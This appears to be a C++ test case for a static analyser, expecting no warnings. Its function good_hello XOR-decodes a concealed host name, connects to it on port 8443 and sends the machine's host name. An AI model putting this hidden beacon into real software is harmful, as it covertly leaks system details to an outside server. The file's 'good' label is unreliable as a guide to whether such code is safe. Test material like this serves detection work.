// expected-no-diagnostics
// Letters of a name that is decoded first are no port, though one of them is 53.
#include <algorithm>
#include <iterator>
#include <netdb.h>
#include <string>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <unistd.h>
#include <vector>

static const std::vector<unsigned char> shape{0x35, 0x2c, 0x31, 0x36, 0x30, 0x77, 0x3a, 0x36};

static std::string name() {
    std::string text;
    std::transform(shape.begin(), shape.end(), std::back_inserter(text),
                   [](unsigned char c) { return char(c ^ 0x59); });
    return text;
}

int good_hello() {
    addrinfo *found = nullptr;
    utsname host;
    uname(&host);
    if (getaddrinfo(name().c_str(), "8443", nullptr, &found))
        return -1;
    int fd = socket(found->ai_family, SOCK_STREAM, 0);
    if (connect(fd, found->ai_addr, found->ai_addrlen))
        return -1;
    std::string line = std::string("hello from ") + host.nodename;
    return write(fd, line.data(), line.size()) > 0;
}
